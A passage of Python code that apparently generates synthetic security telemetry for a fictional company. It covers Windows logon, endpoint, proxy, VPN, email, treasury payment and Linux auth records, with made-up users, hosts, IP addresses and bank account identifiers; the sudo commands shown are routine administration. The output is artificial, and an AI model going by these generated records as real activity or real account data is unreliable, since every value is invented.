            self.hq_tz, self.hq_cc, self.br_tz, self.br_cc = -5.0, 'US', 0.0, 'GB'
            self.holidays = {'2024-01-01', '2024-01-15', '2024-02-19', '2024-05-27',
                             '2024-07-04', '2024-09-02', '2024-11-28', '2024-11-29', '2024-12-25'}
            self.uname_style = 'flast'
        else:
            self.hq_tz, self.hq_cc, self.br_tz, self.br_cc = 1.0, 'DE', 5.5, 'IN'
            self.holidays = {'2024-01-01', '2024-03-29', '2024-04-01', '2024-05-01', '2024-05-09',
                             '2024-05-20', '2024-10-03', '2024-12-25', '2024-12-26'}
            self.uname_style = 'f.last'
        self.start = dt.date(2024, 1, 8) + dt.timedelta(weeks=(seed * 3) % 10)
        self.dates = [self.start + dt.timedelta(days=i) for i in range(n_days)]
        self.dstr = [d.isoformat() for d in self.dates]
        self.t0 = calendar.timegm(self.start.timetuple())
        self.ctr = {}
        self.build_hosts()
        self.build_users(n_users)

    # -- counters -------------------------------------------------------------------------
    def nxt(self, key, rng, lo=1, hi=1, start=1000):
        v = self.ctr.get(key, start) + rng.randint(lo, hi)
        self.ctr[key] = v
        return v

    def pid(self, host, rng):
        v = self.ctr.get(('pid', host), 1000 + h32(host) % 20000) + rng.randint(1, 60)
        if v > 4194000:
            v = 1000
        self.ctr[('pid', host)] = v
        return v

    def ts(self, d, hour, tz):
        return self.t0 + d * 86400 + (hour - tz) * 3600.0

    # -- hosts --------------------------------------------------------------------------------
    def build_hosts(self):
        rng = self.rng
        self.lin = {}
        oses = ['ubuntu22', 'ubuntu20', 'rhel8']
        for i, (name, role) in enumerate(LINUX_SERVERS):
            self.lin[name] = dict(name=name, role=role, ip='10.10.%d.%d' % (1 + i // 20, 10 + i % 200),
                                  os=oses[h32(name + str(self.seed)) % 3],
                                  style='rfc' if i % 2 == 0 else 'iso')
        self.lin['bastion-01']['os'] = 'ubuntu22'
        self.lin['bastion-01']['public_ip'] = '%d.%d.%d.%d' % (rng.choice([52, 34, 18, 3]),
                                                               rng.randint(1, 254),
                                                               rng.randint(1, 254),
                                                               rng.randint(1, 254))
        self.lin_names = [n for n, _ in LINUX_SERVERS]
        self.win = {}
        for i, name in enumerate(WIN_SERVERS):
            self.win[name] = dict(name=name, ip='10.10.50.%d' % (10 + i), server=True,
                                  os='Windows Server 2019 Standard' if i % 3 else
                                  'Windows Server 2022 Datacenter')
        self.ip_to_host = {}

    # -- users --------------------------------------------------------------------------------
    def make_name(self, first, last, used):
        r = self.rng.random()
        style = self.uname_style
        if r < 0.12:
            style = 'first.last'
        if style == 'flast':
            base = first[0] + last
        elif style == 'f.last':
            base = first[0] + '.' + last
        else:
            base = first + '.' + last
        base = base[:20]
        name = base
        k = 2
        while name in used:
            name = base + str(k)
            k += 1
        used.add(name)
        return name

    def build_users(self, n):
        rng = self.rng
        used = set(['root', 'admin', 'administrator', 'test', 'guest', 'backup', 'ansible', 'jenkins',
                    'deploy', 'postgres', 'oracle', 'ubuntu', 'nagios', 'git', 'user'])
        # department allocation
        depts = []
        for dname in DEPT_ORDER:
            depts += [dname] * int(round(DEPTS[dname]['share'] * n))
        while len(depts) < n:
            depts.append('engineering')
        depts = depts[:n]
        rng.shuffle(depts)
        self.users = []
        ws_used = set()
        for i in range(n):
            u = User()
            u.idx = i
            u.first = rng.choice(FIRST)
            u.last = rng.choice(LAST)
            u.name = self.make_name(u.first, u.last, used)
            u.email = '%s.%s@%s' % (u.first, u.last, self.domain)
            if any(x.email == u.email for x in self.users):
                u.email = '%s@%s' % (u.name.replace('.', ''), self.domain)
            u.dept = depts[i]
            P = DEPTS[u.dept]
            u.uid = 10000 + i * 3 + rng.randint(0, 2)
            u.sid = '%s-%d' % (self.dom_sid, 1100 + i * 7 + rng.randint(0, 6))
            branch = rng.random() < 0.22
            u.tz = self.br_tz if branch else self.hq_tz
            u.cc = self.br_cc if branch else self.hq_cc
            u.office = 'branch' if branch else 'hq'
            u.start = min(11.5, max(6.5, rng.gauss(P['start'], P['start_sd'])))
            u.start_sd = rng.uniform(0.15, 0.7)
            u.day_len = min(10.5, max(6.5, rng.gauss(P['length'], 0.55)))
            u.weekend_p = rng.uniform(*P['wk'])
            u.night_owl = (u.dept in ('engineering', 'it', 'support')) and rng.random() < 0.10
            u.late_p = rng.uniform(0.05, 0.15) if u.night_owl else rng.uniform(0.0, 0.05)
            u.sick_p = rng.uniform(0.005, 0.03)
            u.typo_p = rng.uniform(0.02, 0.12)
            r = rng.random()
            u.remote_mode = 'remote' if r < 0.18 else ('hybrid' if r < 0.65 else 'office')
            u.remote_p = {'remote': 0.97, 'hybrid': rng.uniform(0.25, 0.6),
                          'office': rng.uniform(0.0, 0.08)}[u.remote_mode]
            u.home_ip = public_ip(rng, u.cc)
            u.file_rate = min(300, rng.lognormvariate(math.log(P['file']), 0.6))
            u.web_rate = min(400, rng.lognormvariate(math.log(P['web']), 0.55))
            u.email_rate = min(120, rng.lognormvariate(math.log(P['email']), 0.5))
            u.proc_rate = min(120, rng.lognormvariate(math.log(P['proc']), 0.4))
            # endpoint
            mac = u.dept in ('engineering', 'marketing') and rng.random() < 0.22
            u.os = 'macos' if mac else 'windows'
            while True:
                wsn = ('lt-%04x' if u.remote_mode != 'office' or mac else 'wks-%04x') % rng.randint(0, 0xffff)
                if mac:
                    wsn = 'mbp-%04x' % rng.randint(0, 0xffff)
                if wsn not in ws_used:
                    ws_used.add(wsn)
                    break
            u.ws = wsn
            u.ws_ip = '10.20.%d.%d' % (rng.randint(1, 40), rng.randint(10, 250))
            u.usb_serial = None
            if rng.random() < 0.12:
                m = rng.choice(USB_MODELS)
                u.usb_dev = m
                u.usb_serial = b64ish('usb%s%d' % (u.name, self.seed), 16).upper().replace('+', '7').replace('/', '3')
                u.usb_p = rng.uniform(0.04, 0.2)
            # linux
            u.is_admin = u.dept == 'it'
            u.servers, u.sudo_on = [], []
            u.ssh_rate = 0.0
            pool = [s for s in self.lin_names if s != 'bastion-01']
            if u.dept == 'engineering':
                k = rng.randint(1, 4)
                fav = [s for s in pool if self.lin[s]['role'] in ('dev', 'app', 'build', 'k8s', 'stage', 'git', 'data', 'db', 'web')]
                u.servers = rng.sample(fav, k)
                u.ssh_rate = rng.uniform(0.4, 3.0)
                if rng.random() < 0.2:
                    u.sudo_on = [s for s in u.servers if self.lin[s]['role'] in ('dev', 'build', 'stage')]
            elif u.dept == 'it':
                u.servers = rng.sample(pool, rng.randint(8, 16))
                u.sudo_on = list(u.servers)
                u.ssh_rate = rng.uniform(3, 9)
            elif u.dept == 'finance' and rng.random() < 0.1:
                u.servers = ['fin-app-01']
                u.ssh_rate = 0.3
            if u.servers:
                u.servers.append('bastion-01')
            u.ssh_auth = 'password' if rng.random() < 0.25 else 'publickey'
            u.keytype = rng.choice(['RSA', 'ED25519', 'ED25519', 'ECDSA'])
            u.fingerprint = b64ish('key' + u.name + str(self.seed), 43)
            # windows servers used
            u.win_servers = ['fs01']
            if u.dept in ('finance', 'legal', 'hr') or rng.random() < 0.3:
                u.win_servers.append('fs02')
            if u.dept == 'finance':
                u.win_servers += ['erp01', 'sql01']
            if rng.random() < 0.4:
                u.win_servers.append('print01')
            if u.dept == 'it':
                u.rdp_servers = rng.sample(WIN_SERVERS, rng.randint(3, 7))
            else:
                u.rdp_servers = []
            # web profile
            co = self.co
            doms = [x.format(co=co, rival=self.rival) for x in COMMON_DOMAINS]
            dd = [x.format(co=co, rival=self.rival) for x in DEPT_DOMAINS[u.dept]]
            pers = rng.sample(PERSONAL_DOMAINS, rng.randint(2, 7))
            extra = []
            u.cloud = []
            if rng.random() < 0.25:
                u.cloud = [rng.choice(NORMAL_CLOUD)]
                extra += u.cloud
            if u.dept == 'engineering' and rng.random() < 0.3:
                u.cloud.append('content.dropboxapi.com')
                extra.append('www.dropbox.com')
            prof = []
            for x in dd + doms[:8] + pers + extra + doms[8:]:
                if x not in prof:
                    prof.append(x)
            # light shuffle of tail so each user has own ordering
            head, tail = prof[:6], prof[6:]
            rng.shuffle(tail)
            u.domains = head + tail
            u.dom_w = zipf_weights(len(u.domains), rng.uniform(0.7, 1.2))
            u.ua = rng.choice(UA_MAC if mac else UA_WIN)
            # finance / payments
            u.payer = u.dept == 'finance' and rng.random() < 0.65
            if u.payer:
                u.txn_rate = rng.uniform(2, 12)
                u.amt_med = math.exp(rng.uniform(math.log(250), math.log(7000)))
                u.amt_sig = rng.uniform(0.5, 1.0)
                u.cps = [self.new_cp(rng, u.cc) for _ in range(rng.randint(12, 35))]
                u.cp_w = zipf_weights(len(u.cps), 0.8)
                u.currency = CURRENCY[u.cc]
            # colleagues for email
            u.vacation = set()
            u.drift = {}
            u.new_ws_day = None
            self.users.append(u)
        self.by_name = {u.name: u for u in self.users}
        for u in self.users:
            same = [x for x in self.users if x.dept == u.dept and x is not u]
            u.colleagues = rng.sample(same, min(len(same), 12)) if same else []
        # vacations & laptop replacements
        for u in self.users:
            if rng.random() < 0.08:
                s = rng.randint(0, self.n_days - 5)
                u.vacation = set(range(s, s + rng.randint(3, 8)))
            if rng.random() < 0.02:
                u.new_ws_day = rng.randint(3, self.n_days - 3)

    def new_cp(self, rng, cc, foreign=False):
        name = '%s %s %s' % (rng.choice(VENDOR_A), rng.choice(VENDOR_B),
                             rng.choice(['Inc', 'LLC', 'Ltd', 'GmbH', 'BV', 'SA', 'Corp']))
        country = rng.choice(COUNTRIES_FOREIGN) if foreign else (cc if rng.random() < 0.85 else
                                                                rng.choice(['US', 'GB', 'DE', 'FR', 'NL', 'IE']))
        acct = '%s%02d%s' % (country, rng.randint(10, 99), ''.join(str(rng.randint(0, 9)) for _ in range(18)))
        return dict(name=name, account=acct, country=country,
                    bic='%s%s%s' % (''.join(rng.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZ') for _ in range(4)),
                                   country, ''.join(rng.choice('ABCDEFGHJKLMNPQRSTUVWXYZ0123456789') for _ in range(2))))


# ----------------------------------------------------------------------------------------------
# event builders
# ----------------------------------------------------------------------------------------------
class Gen:
    def __init__(self, org, sink):
        self.org = org
        self.sink = sink

    # ---------------------------------------------------------------- generic ECS bits
    def host_obj(self, host, u=None):
        o = self.org
        if host in o.win:
            return {'name': host, 'hostname': host, 'ip': [o.win[host]['ip']],
                    'os': {'type': 'windows', 'family': 'windows', 'name': o.win[host]['os'],
                           'platform': 'windows'}}
        owner = o.ws_owner.get(host)
        if owner is not None and owner.os == 'macos':
            return {'name': host, 'hostname': host,
                    'os': {'type': 'macos', 'family': 'darwin', 'name': 'macOS', 'version': '14.2.1',
                           'platform': 'darwin'}}
        return {'name': host, 'hostname': host,
                'os': {'type': 'windows', 'family': 'windows', 'name': 'Windows 11 Enterprise',
                       'version': '23H2', 'platform': 'windows'}}

    # ---------------------------------------------------------------- windows security
    def win(self, ts, host, code, action, cats, types, outcome, user, domain=None, sid=None,
            ltype=None, src_ip=None, src_ws=None, extra_data=None, tag=None, target=None,
            group=None, logon_id=None, auth='Negotiate'):
        o = self.org
        rid = o.ctr.get(('rec', host), 100000 + h32(host) % 900000) + 1
        o.ctr[('rec', host)] = rid
        ed = {'SubjectUserSid': 'S-1-5-18', 'SubjectUserName': host.upper() + '$',
              'SubjectDomainName': o.netbios}
        if code in ('4624', '4625', '4634', '4648', '4647'):
            ed = {'TargetUserName': user, 'TargetDomainName': domain or o.netbios}
            if sid:
                ed['TargetUserSid'] = sid
        if ltype is not None:
            ed['LogonType'] = str(ltype)
            if code in ('4624', '4625'):
                ed['LogonProcessName'] = {2: 'User32 ', 3: 'NtLmSsp ', 7: 'User32 ', 10: 'User32 ',
                                          11: 'User32 ', 5: 'Advapi  '}.get(ltype, 'Kerberos')
                ed['AuthenticationPackageName'] = auth
                ed['WorkstationName'] = (src_ws or '-').upper()
                ed['IpAddress'] = src_ip or '-'
                ed['IpPort'] = str(random.Random(rid).randint(49152, 65535)) if src_ip and src_ip != '127.0.0.1' else '0'
        if logon_id:
            ed['TargetLogonId'] = logon_id
        if extra_data:
            ed.update(extra_data)
        wl = {'channel': 'Security', 'computer_name': '%s.%s' % (host.upper(), o.ad_domain),
              'event_id': code, 'provider_name': 'Microsoft-Windows-Security-Auditing',
              'record_id': rid, 'api': 'wineventlog', 'event_data': ed,
              'opcode': 'Info', 'keywords': ['Audit Success' if outcome == 'success' else 'Audit Failure']}
        if ltype is not None:
            wl['logon'] = {'type': LOGON_TYPE.get(ltype, str(ltype))}
            if logon_id:
                wl['logon']['id'] = logon_id
        rec = {'agent': {'type': 'winlogbeat', 'version': '8.11.3', 'name': host},
               'ecs': {'version': '8.0.0'},
               'event': {'code': code, 'kind': 'event', 'provider': 'Microsoft-Windows-Security-Auditing',
                         'action': action, 'category': cats, 'type': types, 'outcome': outcome,
                         'module': 'security', 'dataset': 'windows.security'},
               'host': self.host_obj(host), 'log': {'level': 'information'}, 'winlog': wl,
               'user': {'name': user, 'domain': domain or o.netbios}}
        if sid:
            rec['user']['id'] = sid
        if target:
            rec['user']['target'] = {'name': target, 'domain': o.netbios}
        if group:
            rec['group'] = {'name': group, 'domain': 'Builtin' if group == 'Administrators' else o.netbios}
        if src_ip:
            rec['source'] = {'ip': src_ip}
            if src_ws:
                rec['source']['domain'] = src_ws.upper()
        rec['related'] = {'user': [user] + ([target] if target else [])}
        self.sink.add('win', ts, rec, tag)

    def logon_id(self, rng):
        return '0x%x' % rng.randint(0x100000, 0x7fffffff)

    def w_logon(self, ts, host, u, ltype, src_ip, src_ws, rng, tag=None, auth='Negotiate',
                special=False, user=None):
        lid = self.logon_id(rng)
        name = user or u.name
        self.win(ts, host, '4624', 'logged-in', ['authentication'], ['start'], 'success', name,
                 sid=u.sid if u else None, ltype=ltype, src_ip=src_ip, src_ws=src_ws, tag=tag,
                 logon_id=lid, auth=auth)
        if special:
            self.win(ts + 0.001, host, '4672', 'logged-in-special', ['iam'], ['admin'], 'success', name,
                     sid=u.sid if u else None, tag=tag, logon_id=lid,
                     extra_data={'PrivilegeList': 'SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\t'
                                 'SeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\t'
                                 'SeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\t'
                                 'SeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege'})
        return lid

    def w_logoff(self, ts, host, u, ltype, lid, tag=None, user_initiated=False):
        if user_initiated:
            self.win(ts, host, '4647', 'logged-out', ['authentication'], ['end'], 'success', u.name,
                     sid=u.sid, tag=tag, logon_id=lid)
        self.win(ts + (0.4 if user_initiated else 0), host, '4634', 'logged-out', ['authentication'],
                 ['end'], 'success', u.name, sid=u.sid, ltype=ltype, tag=tag, logon_id=lid)

    def w_fail(self, ts, host, name, ltype, src_ip, src_ws, sid=None, tag=None,
               sub='0xc000006a', auth='Negotiate'):
        reason = {'0xc000006a': 'Unknown user name or bad password.',
                  '0xc0000064': 'Unknown user name or bad password.',
                  '0xc0000234': 'Account locked out.'}[sub]
        self.win(ts, host, '4625', 'logon-failed', ['authentication'], ['start'], 'failure', name,
                 sid=sid, ltype=ltype, src_ip=src_ip, src_ws=src_ws, tag=tag, auth=auth,
                 extra_data={'Status': '0xc000006d', 'SubStatus': sub, 'FailureReason': reason})

    def w_kerb(self, ts, u, src_ip, rng, tag=None, fail=False, name=None):
        dc = 'dc01' if rng.random() < 0.6 else 'dc02'
        self.win(ts, dc, '4768', 'kerberos-authentication-ticket-requested', ['authentication'],
                 ['start'], 'failure' if fail else 'success', name or u.name, sid=None if fail else u.sid,
                 src_ip='::ffff:' + src_ip, tag=tag,
                 extra_data={'TargetUserName': name or u.name, 'TargetDomainName': self.org.netbios,
                             'ServiceName': 'krbtgt', 'TicketEncryptionType': '0x12',
                             'PreAuthType': '2', 'Status': '0x18' if fail else '0x0'})

    # ---------------------------------------------------------------- endpoint (Elastic Defend)
    def endpoint_base(self, host, u, dataset):
        return {'agent': {'type': 'endpoint', 'version': '8.11.3'},
                'ecs': {'version': '8.10.0'},
                'data_stream': {'dataset': dataset, 'namespace': 'default', 'type': 'logs'},
                'host': self.host_obj(host, u),
                'user': ({'name': u} if isinstance(u, str) and u != 'SYSTEM' else
                         {'name': u, 'domain': 'NT AUTHORITY', 'id': 'S-1-5-18'} if isinstance(u, str) else
                         {'name': u.name} if u.os == 'macos' and not host.startswith(('fs0', 'rdsh', 'app-w')) else
                         {'name': u.name, 'domain': self.org.netbios, 'id': u.sid})}

    def proc(self, ts, host, u, name, exe, cmd, parent, rng, tag=None, mac=False):
        rec = self.endpoint_base(host, u, 'endpoint.events.process')
        rec['event'] = {'kind': 'event', 'category': ['process'], 'type': ['start'],
                        'action': 'exec' if mac else 'start', 'module': 'endpoint',
                        'dataset': 'endpoint.events.process', 'outcome': 'success'}
        pid = self.org.pid('p' + host, rng)
        rec['process'] = {'pid': pid, 'name': name, 'executable': exe, 'command_line': cmd,
                          'args': split_args(cmd, exe),
                          'parent': {'pid': max(4, pid - rng.randint(5, 4000)), 'name': parent}}
        self.sink.add('proc', ts, rec, tag)

    def file(self, ts, host, u, action, path, size, pname, rng, tag=None, orig=None, mac=False):
        rec = self.endpoint_base(host, u, 'endpoint.events.file')
        et = {'creation': 'creation', 'modification': 'change', 'deletion': 'deletion',
              'rename': 'change', 'open': 'access', 'overwrite': 'change'}[action]
        rec['event'] = {'kind': 'event', 'category': ['file'], 'type': [et], 'action': action,
                        'module': 'endpoint', 'dataset': 'endpoint.events.file'}
        sep = '/' if mac else '\\'
        d, _, n = path.rpartition(sep)
        f = {'path': path, 'name': n, 'directory': d}
        if '.' in n:
            f['extension'] = n.rsplit('.', 1)[1]
        if action != 'deletion':
            f['size'] = int(size)
        if not mac and len(path) > 1 and path[1] == ':':
            f['drive_letter'] = path[0]
        if orig:
            f['Ext'] = {'original': {'path': orig, 'name': orig.rpartition(sep)[2]}}
        rec['file'] = f
        rec['process'] = {'name': pname, 'pid': self.org.ctr.get(('pp', host, pname)) or
                          self.org.ctr.setdefault(('pp', host, pname), rng.randint(900, 30000))}
        self.sink.add('file', ts, rec, tag)

    def device(self, ts, host, u, action, model, serial, rng, tag=None, letter='E'):
        vendor, prod, vid, pidh = model
        rec = self.endpoint_base(host, u, 'endpoint.events.device')
        rec['event'] = {'kind': 'event', 'category': ['host'],
                        'type': ['start'] if action == 'device-connected' else ['end'],
                        'action': action, 'module': 'endpoint', 'dataset': 'endpoint.events.device'}
        rec['device'] = {'id': 'USB\\VID_%s&PID_%s\\%s' % (vid.upper(), pidh.upper(), serial),
                         'manufacturer': vendor, 'model': {'name': prod, 'identifier': '%s:%s' % (vid, pidh)},
                         'serial_number': serial, 'bus_type': 'USB', 'class': 'Mass Storage',
                         'mount_point': ('%s:\\' % letter) if u.os == 'windows' else
                         ('/Volumes/%s' % vendor.upper())}
        self.sink.add('dev', ts, rec, tag)

    # ---------------------------------------------------------------- proxy
    def web(self, ts, u, src_ip, domain, rng, method='GET', path=None, req_bytes=None,
            resp_bytes=None, status=None, tag=None, action='allowed'):
        if path is None:
            path = rng.choice(['/', '/index.html', '/search', '/api/v1/items', '/static/app.js',
                               '/en-us/', '/home', '/feed', '/assets/main.css', '/login',
                               '/news/%d' % rng.randint(1000, 99999), '/img/%d.png' % rng.randint(1, 999)])
        if req_bytes is None:
            req_bytes = rng.randint(350, 1800) if method == 'GET' else int(rng.lognormvariate(math.log(6000), 1.0))
        if resp_bytes is None:
            resp_bytes = int(rng.lognormvariate(math.log(25000), 1.4))
        if status is None:
            status = 403 if action == 'blocked' else wchoice(rng, [200, 204, 301, 302, 304, 404],
                                                             [80, 4, 2, 5, 7, 2])
        rec = {'agent': {'type': 'filebeat', 'version': '8.11.3'}, 'ecs': {'version': '8.0.0'},
               'event': {'kind': 'event', 'category': ['network', 'web'],
                         'type': ['access', 'denied' if action == 'blocked' else 'allowed'],
                         'action': action, 'outcome': 'failure' if action == 'blocked' else 'success',
                         'module': 'zscaler_zia', 'dataset': 'zscaler_zia.web'},
               'observer': {'vendor': 'Zscaler', 'product': 'ZIA', 'type': 'proxy'},
               'source': {'ip': src_ip},
               'destination': {'ip': dom_ip(domain), 'port': 443, 'domain': domain},
               'url': {'domain': domain, 'path': path.split('?')[0], 'scheme': 'https',
                       'full': 'https://%s%s' % (domain, path)},
               'http': {'request': {'method': method, 'bytes': int(req_bytes)},
                        'response': {'status_code': status, 'bytes': int(resp_bytes)}},
               'network': {'protocol': 'https', 'transport': 'tcp'},
               'user': {'name': u.name, 'email': u.email},
               'user_agent': {'original': u.ua}}
        self.sink.add('proxy', ts, rec, tag)

    # ---------------------------------------------------------------- vpn
    def vpn(self, ts, u, action, outcome, pub_ip, cc, rng, priv_ip=None, tag=None, reason=None,
            name=None):
        cat = ['authentication'] if action == 'gateway-auth' else ['network', 'session']
        typ = {'gateway-auth': ['start'], 'gateway-connected': ['start', 'connection'],
               'gateway-logout': ['end', 'connection']}[action]
        if action == 'gateway-auth' and outcome == 'failure':
            typ = ['start']
        rec = {'agent': {'type': 'filebeat', 'version': '8.11.3'}, 'ecs': {'version': '8.0.0'},
               'event': {'kind': 'event', 'category': cat, 'type': typ, 'action': action,
                         'outcome': outcome, 'module': 'panw', 'dataset': 'panw.panos'},
               'observer': {'vendor': 'Palo Alto Networks', 'product': 'GlobalProtect',
                            'name': 'pa-vpn01', 'type': 'firewall'},
               'source': {'ip': pub_ip, 'geo': {'country_iso_code': cc}},
               'user': {'name': name or u.name, 'domain': self.org.netbios.lower()},
               'host': {'name': 'pa-vpn01'}}
        if priv_ip:
            rec['source']['nat'] = {'ip': priv_ip}
        if reason:
            rec['event']['reason'] = reason
        self.sink.add('vpn', ts, rec, tag)

    # ---------------------------------------------------------------- email
    def mail(self, ts, u, src_ip, rng, tag=None, to=None, subject=None, attach=None):
        o = self.org
        if to is None:
            if u.dept in ('sales', 'support', 'legal') and rng.random() < 0.5 or rng.random() < 0.15:
                ext_dom = rng.choice(['gmail.com', 'outlook.com', 'acme-corp.com', 'globex.io',
                                      'initech.net', 'umbrella-group.com', 'hooli.com', 'vandelay.co'])
                to = ['%s.%s@%s' % (rng.choice(FIRST), rng.choice(LAST), ext_dom)]
            else:
                c = rng.choice(u.colleagues) if u.colleagues and rng.random() < 0.75 else rng.choice(o.users)
                to = [c.email]
                if rng.random() < 0.25:
                    to.append(rng.choice(o.users).email)
        direction = 'internal' if all(t.endswith('@' + o.domain) for t in to) else 'outbound'
        if subject is None:
            subject = rng.choice(['Re: ', 'RE: ', 'FW: ', '', '']) + rng.choice(WORDS).capitalize() + ' ' + \
                rng.choice(['update', 'for review', 'follow-up', 'next steps', 'question', 'meeting',
                            'draft', 'notes', 'sign-off', 'request'])
        em = {'from': {'address': [u.email]}, 'to': {'address': to}, 'subject': subject,
              'direction': direction, 'message_id': '<%s@%s>' % (b64ish('m%f%s' % (ts, u.name), 24).replace('/', 'x').replace('+', 'y'), o.domain)}
        if attach is None and rng.random() < 0.18:
            ext = rng.choice(DEPT_EXT[u.dept])
            attach = [(rng.choice(WORDS) + '_' + rng.choice(WORDS) + '.' + ext,
                       int(rng.lognormvariate(math.log(EXT_SIZE.get(ext, 1e5)), 0.8)))]
        if attach:
            em['attachments'] = [{'file': {'name': n, 'size': min(s, 35_000_000)}} for n, s in attach]
        rec = {'agent': {'type': 'filebeat', 'version': '8.11.3'}, 'ecs': {'version': '8.0.0'},
               'event': {'kind': 'event', 'category': ['email'], 'type': ['info'], 'action': 'send',
                         'outcome': 'success', 'module': 'o365', 'dataset': 'microsoft_exchange_online_message_trace.log'},
               'email': em, 'user': {'name': u.name, 'email': u.email},
               'source': {'ip': src_ip}}
        self.sink.add('mail', ts, rec, tag)

    # ---------------------------------------------------------------- payments
    def payment(self, ts, u, src_ip, action, amount, currency, cp, rng, tag=None, outcome='success'):
        o = self.org
        tid = 'TX%s%07d' % (o.dstr[0][2:4], o.nxt('txn', rng, 1, 3, 1000000))
        rec = {'agent': {'type': 'filebeat', 'version': '8.11.3'}, 'ecs': {'version': '8.0.0'},
               'event': {'kind': 'event', 'category': 'web', 'type': 'info', 'action': action,
                         'outcome': outcome, 'module': 'treasury', 'dataset': 'treasury.audit'},
               'service': {'name': 'treasury-portal', 'environment': 'production'},
               'host': {'name': 'fin-app-01'},
               'user': {'name': u.name, 'email': u.email, 'roles': ['payments-initiator']},
               'source': {'ip': src_ip},
               'url': {'domain': 'pay.%s' % o.domain, 'path': '/api/v2/%s' % ('wires' if action == 'wire-transfer' else 'payments'),
                       'full': 'https://pay.%s/api/v2/%s' % (o.domain, 'wires' if action == 'wire-transfer' else 'payments')},
               'http': {'request': {'method': 'POST', 'bytes': rng.randint(700, 1600)},
                        'response': {'status_code': 201 if outcome == 'success' else 422}},
               'transaction': {'id': tid, 'amount': round(amount, 2), 'currency': currency,
                               'type': action,
                               'reference': 'INV-%d' % rng.randint(100000, 999999),
                               'counterparty': {'name': cp['name'], 'account': cp['account'],
                                                'country': cp['country'], 'bic': cp['bic']}},
               'destination': {'account': {'id': cp['account']}}}
        self.sink.add('pay', ts, rec, tag)

    # ---------------------------------------------------------------- linux auth.log
    def auth(self, ts, host, prog, pid, msg, tag=None):
        self.sink.add('auth', ts, (host, prog, pid, msg), tag)

    def pam_open(self, host, svc, user, uid, by_user=None, by_uid=0):
        os_ = self.org.lin[host]['os']
        by = '%s(uid=%d)' % (by_user, by_uid) if by_user else '(uid=%d)' % by_uid
        if os_ == 'ubuntu22':
            return 'pam_unix(%s:session): session opened for user %s(uid=%d) by %s' % (svc, user, uid, by)
        return 'pam_unix(%s:session): session opened for user %s by %s' % (svc, user, by)

    def ssh_session(self, ts, host, user, uid, src_ip, dur, rng, method='publickey', tag=None,
                    fails=0, keytype='ED25519', fp='x', sudo=None, sudo_fail=None, u=None,
                    nosudo_cmds=None):
        """emit an sshd login session; returns (pid, tty)"""
        o = self.org
        pid = o.pid(host, rng)
        port = rng.randint(32768, 60999)
        t = ts
        for i in range(fails):
            self.auth(t, host, 'sshd', pid, 'pam_unix(sshd:auth): authentication failure; logname= uid=0 '
                      'euid=0 tty=ssh ruser= rhost=%s  user=%s' % (src_ip, user), tag)
            self.auth(t + 2.1, host, 'sshd', pid, 'Failed password for %s from %s port %d ssh2' % (user, src_ip, port), tag)
            t += rng.uniform(3, 9)
        if method == 'password':
            self.auth(t, host, 'sshd', pid, 'Accepted password for %s from %s port %d ssh2' % (user, src_ip, port), tag)
        else:
            self.auth(t, host, 'sshd', pid, 'Accepted publickey for %s from %s port %d ssh2: %s SHA256:%s'
                      % (user, src_ip, port, keytype, fp), tag)
        self.auth(t + 0.02, host, 'sshd', pid, self.pam_open(host, 'sshd', user, uid), tag)
        lpid = o.ctr.setdefault(('logind', host), 600 + h32(host) % 300)
        sess = o.nxt(('sess', host), rng, 1, 3, 100 + h32(host) % 5000)
        self.auth(t + 0.03, host, 'systemd-logind', lpid, 'New session %d of user %s.' % (sess, user), tag)
        tty = 'pts/%d' % rng.randint(0, 4)
        end = t + dur
        home = '/home/%s' % user if user not in ('root',) else '/root'
        cmds = list(sudo or [])
        if cmds:
            times = sorted(rng.uniform(t + 10, max(t + 20, end - 5)) for _ in cmds)
            for tt, c in zip(times, cmds):
                self.sudo(tt, host, user, uid, tty, rng.choice([home, home, '/etc', '/var/log', '/opt/app', '/tmp']), c, tag)
        if sudo_fail:
            for c in sudo_fail:
                tt = rng.uniform(t + 10, max(t + 20, end - 5))
                self.auth(tt, host, 'sudo', None, '%s : user NOT in sudoers ; TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s'
                          % (user.rjust(len(user) + 2), tty, home, c), tag)
        self.auth(end, host, 'sshd', pid, 'Received disconnect from %s port %d:11: disconnected by user' % (src_ip, port), tag)
        self.auth(end + 0.001, host, 'sshd', pid, 'Disconnected from user %s %s port %d' % (user, src_ip, port), tag)
        self.auth(end + 0.01, host, 'sshd', pid, 'pam_unix(sshd:session): session closed for user %s' % user, tag)
        self.auth(end + 0.02, host, 'systemd-logind', lpid, 'Session %d logged out. Waiting for processes to exit.' % sess, tag)
        self.auth(end + 0.03, host, 'systemd-logind', lpid, 'Removed session %d.' % sess, tag)
        return pid, tty

    def sudo(self, ts, host, user, uid, tty, pwd, cmd, tag=None, target='root'):
        os_ = self.org.lin[host]['os']
        self.auth(ts, host, 'sudo', None, '%s : TTY=%s ; PWD=%s ; USER=%s ; COMMAND=%s'
                  % (user.rjust(len(user) + 2), tty, pwd, target, cmd), tag)
        if os_ == 'ubuntu22':
            m = 'pam_unix(sudo:session): session opened for user %s(uid=0) by %s(uid=%d)' % (target, user, uid)
        else:
            m = 'pam_unix(sudo:session): session opened for user %s by %s(uid=%d)' % (target, user, uid)
        self.auth(ts + 0.002, host, 'sudo', None, m, tag)
        self.auth(ts + 0.2 + random.Random(int(ts)).random() * 3, host, 'sudo', None,
                  'pam_unix(sudo:session): session closed for user %s' % target, tag)


# ----------------------------------------------------------------------------------------------
# simulation
# ----------------------------------------------------------------------------------------------
ADMIN_SUDO = {
    'ubuntu': ['/usr/bin/systemctl restart {svc}', '/usr/bin/systemctl status {svc}',
               '/usr/bin/apt-get update', '/usr/bin/apt-get -y upgrade', '/usr/bin/journalctl -u {svc} --since today',
               '/usr/bin/tail -n 200 /var/log/syslog', '/usr/bin/docker ps', '/usr/bin/vim /etc/{svc}/{svc}.conf',
               '/usr/sbin/ufw status', '/usr/bin/du -sh /var/lib', '/usr/bin/df -h', '/usr/bin/less /var/log/auth.log',
               '/usr/bin/netstat -tlnp', '/usr/sbin/reboot', '/usr/bin/crontab -l', '/bin/bash'],
    'rhel': ['/bin/systemctl restart {svc}', '/bin/systemctl status {svc}', '/usr/bin/dnf -y update',
